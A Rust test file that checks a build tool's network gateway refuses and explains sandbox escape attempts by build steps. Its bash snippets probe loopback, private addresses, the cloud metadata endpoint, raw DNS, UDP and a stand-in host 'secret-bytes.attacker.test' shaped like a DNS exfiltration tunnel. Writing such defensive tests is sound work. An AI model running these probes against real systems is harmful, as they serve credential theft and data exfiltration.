//! What a step that fetches tries to reach and does not, in every isolation that works here: each attempt is refused,
//! and named with what the user can do. The host's bash is the client.

use std::net::TcpListener;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::sync::mpsc;

use packwright_gateway::Rules;

use super::gateway::{isolations, run, server};
use super::*;
use crate::network::StepNetwork;

/// An attempt of the table.
struct Attempt {
    /// What is tried, in bash.
    script: String,
    /// What the program sees.
    sees: &'static str,
    /// What the error says of it; nothing where the program itself is told enough.
    says: Option<String>,
}

fn attempt(script: impl Into<String>, sees: &'static str, says: impl Into<Option<String>>) -> Attempt {
    Attempt { script: script.into(), sees, says: says.into() }
}

/// A line of an error: `what` is refused because `why`.
fn refused(what: &str, why: &str) -> Option<String> {
    Some(format!("`{what}` is refused: {why}"))
}

/// Attempt, what the program sees of the wall, and what the error says. What stops each of them is the heading above.
fn attempts(port: u16, canary: &str) -> Vec<Attempt> {
    const PUBLIC: &str = "and steps reach public addresses only";
    const PORTS: &str =
        "steps reach the ports 80 and 443, and others that a setting or `--allow-host` names with their host";
    const HTTP: &str = "and steps reach the network by http and https only";
    let names =
        |how| format!("it is asked for names by {how}, and the only resolver of a step is 198.18.0.1");
    vec![
        // The network namespace, which has none of the host's sockets.
        attempt(
            format!("exec 3<>/dev/tcp/127.0.0.1/{port}"),
            "Connection refused",
            refused(
                &format!("127.0.0.1:{port}"),
                "nothing in the step listens there, and services of this machine are not reached",
            ),
        ),
        attempt(
            format!(
                "while read -r line; do case $line in *{canary}*) echo canary; exit;; esac; done < /proc/net/unix
                 echo no canary"
            ),
            "no canary",
            None,
        ),
        // It has no IPv6 address and no route.
        attempt("exec 3<>/dev/tcp/fd00:ec2::254/80", "unreachable", None),
        // The gateway's rules for addresses.
        attempt(
            "page 169.254.169.254 80 169.254.169.254",
            "HTTP/1.1 403 Forbidden",
            refused("http://169.254.169.254", &format!("it is a link-local address, {PUBLIC}")),
        ),
        attempt(
            "page 127.0.0.1 80 127.0.0.1",
            "HTTP/1.1 403 Forbidden",
            refused("http://127.0.0.1", &format!("it is the machine itself (loopback), {PUBLIC}")),
        ),
        attempt(
            "page 10.0.0.1 80 10.0.0.1",
            "HTTP/1.1 403 Forbidden",
            refused("http://10.0.0.1", &format!("it is a private address, {PUBLIC}")),
        ),
        attempt(
            "page ::ffff:10.0.0.2 80 10.0.0.2",
            "HTTP/1.1 403 Forbidden",
            refused("http://10.0.0.2", &format!("it is a private address, {PUBLIC}")),
        ),
        // Names of the caller's `--deny-host`, and addresses that stand for no name.
        attempt(
            "exec 3<>/dev/tcp/sub.denied.test/443",
            "sub.denied.test",
            refused("sub.denied.test", "`--deny-host` names it"),
        ),
        attempt(
            "exec 3<>/dev/tcp/198.18.7.7/443; read -r line <&3 || echo nothing came",
            "nothing came",
            refused("198.18.7.7:443", "the address stands for no name of this step"),
        ),
        // The listeners for protocols that are no HTTP.
        attempt(
            "exec 3<>/dev/tcp/203.0.113.9/22; read -r line <&3 || echo nothing came",
            "nothing came",
            refused("203.0.113.9:22", &format!("it is asked by ssh, {HTTP}")),
        ),
        attempt(
            "exec 3<>/dev/tcp/code.test/9418; read -r line <&3 || echo \"$line\"",
            "ERR packwright: steps reach `code.test` by https only",
            refused("code.test:9418", &format!("it is asked by git://, {HTTP}")),
        ),
        // The kernel: no socket listens there. The gateway hears of it.
        attempt("exec 3<>/dev/tcp/host.test/8443", "Connection refused", refused("host.test:8443", PORTS)),
        attempt(
            "exec 3<>/dev/tcp/10.0.0.1/5432",
            "Connection refused",
            refused("10.0.0.1:5432", &format!("it is a private address, {PUBLIC}")),
        ),
        // A tunnel: what a name says reaches the stub resolver of the gateway and no other.
        attempt(
            "exec 3<>/dev/tcp/secret-bytes.attacker.test/99",
            "Connection refused",
            refused("secret-bytes.attacker.test:99", PORTS),
        ),
        attempt(
            "exec 3<>/dev/udp/8.8.8.8/53; printf question >&3; read -r line <&3 || echo nothing came",
            "nothing came",
            refused("8.8.8.8:53", &names("UDP")),
        ),
        attempt("exec 3<>/dev/tcp/8.8.4.4/53", "Connection refused", refused("8.8.4.4:53", &names("TCP"))),
        attempt(
            "exec 3<>/dev/udp/host.test/443; printf quic >&3; read -r line <&3 || echo nothing came",
            "nothing came",
            refused(
                "host.test:443",
                "it is asked by UDP (HTTP/3 or another protocol), and steps reach the network by TCP only, with \
                 http and https",
            ),
        ),
    ]
}

#[test]
fn every_attempt_is_refused_and_named() {
    let port = server("");
    let canary = format!("packwright-step-canary-{}", std::process::id());
    let _canary = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&canary).unwrap()).unwrap();
    let attempts = attempts(port, &canary);
    let mut script = String::new();
    for (number, attempt) in attempts.iter().enumerate() {
        script += &format!("echo attempt {number}:\n({}) 2>&1 || true\n", attempt.script);
    }
    script += "exit 1";
    let rules = Rules { deny: vec!["denied.test".parse().unwrap()], ..Rules::default() };
    for isolation in isolations() {
        let dir = tempfile::tempdir().unwrap();
        let ran = run(dir.path(), isolation, StepNetwork::Gateway(rules.clone()), &[], &script);
        let all = ran.printed.join("\n");
        for (number, attempt) in attempts.iter().enumerate() {
            let (_, said) = all.split_once(&format!("attempt {number}:")).expect("every attempt is made");
            let said = said.split("\nattempt ").next().unwrap_or_default();
            assert!(said.contains(attempt.sees), "{isolation:?}: {}: {said}", attempt.script);
        }
        assert!(!all.contains("inside"), "the service of this machine answers nobody: {all}");
        let mut expected: Vec<&String> =
            attempts.iter().filter_map(|attempt| attempt.says.as_ref()).collect();
        let problems = ran.problems();
        let mut told: Vec<&String> = problems.iter().collect();
        expected.sort();
        told.sort();
        assert_eq!(told, expected, "{isolation:?}");
        let error = ran.result.unwrap_err();
        let fix = error.fix().unwrap();
        for remedy in [
            "`--allow-host 169.254.169.254`",
            "`--allow-host host.test:8443`",
            "--deny-host",
            "`--network host`",
        ] {
            assert!(fix.contains(remedy), "{fix}");
        }
        assert!(!error.is_transient());
    }
}

/// What a client does without is not taken for why the step failed, and has a remedy nevertheless.
#[test]
fn what_a_client_does_without_keeps_no_step_from_another_try() {
    let script = format!(
        "(exec 3<>/dev/tcp/127.0.0.1/5432) || true
         exec 3<>/dev/udp/203.0.113.9/443; printf quic >&3; read -r line <&3 || true
         echo {TRANSIENT}; exit 1"
    );
    for isolation in isolations() {
        let dir = tempfile::tempdir().unwrap();
        let ran = run(dir.path(), isolation, StepNetwork::default(), &[], &script);
        assert_eq!(ran.problems().len(), 2, "{isolation:?}: {:?}", ran.problems());
        assert!(ran.result.unwrap_err().is_transient(), "{isolation:?}");
        let dir = tempfile::tempdir().unwrap();
        let script = "(exec 3<>/dev/tcp/127.0.0.1/5432) || exit 1";
        let error = run(dir.path(), isolation, StepNetwork::default(), &[], script).result.unwrap_err();
        assert!(error.fix().unwrap().contains("`--allow-host 127.0.0.1:5432`"), "{:?}", error.fix());
    }
}

/// Two builds at the same time have the same addresses for their names, and each of them its own.
#[test]
fn the_gateway_of_another_build_is_not_reached() {
    let (there, is_there) = mpsc::channel();
    let (over, is_over) = mpsc::channel::<()>();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let isolation = isolations()[0];
    std::thread::scope(|scope| {
        scope.spawn(move || {
            // Holds the answer, and so the other build, until this one has tried.
            let (stream, _) = listener.accept().unwrap();
            there.send(()).unwrap();
            let _ = is_over.recv();
            drop(stream);
        });
        scope.spawn(move || {
            let dir = tempfile::tempdir().unwrap();
            let address = format!("http://127.0.0.1:{port}/");
            let script =
                format!("(exec 3<>/dev/tcp/theirs.test/443); page 127.0.0.1 {port} 127.0.0.1:{port}");
            run(dir.path(), isolation, StepNetwork::default(), &[("TOY_INDEX", &address)], &script);
        });
        is_there.recv().unwrap();
        let dir = tempfile::tempdir().unwrap();
        let script = "
            for at in 198.18.0.2/443 198.18.0.2/80 198.18.0.1/80; do
                exec 3<>/dev/tcp/$at; read -r line <&3 || echo nothing came
            done; exit 1";
        let ran = run(dir.path(), isolation, StepNetwork::default(), &[], script);
        drop(over);
        assert_eq!(ran.printed.iter().filter(|line| *line == "nothing came").count(), 3, "{:?}", ran.printed);
        let why = "is refused: the address stands for no name of this step";
        let at = ["198.18.0.1:80", "198.18.0.2:443", "198.18.0.2:80"];
        assert_eq!(ran.problems(), at.map(|at| format!("`{at}` {why}")));
    });
}
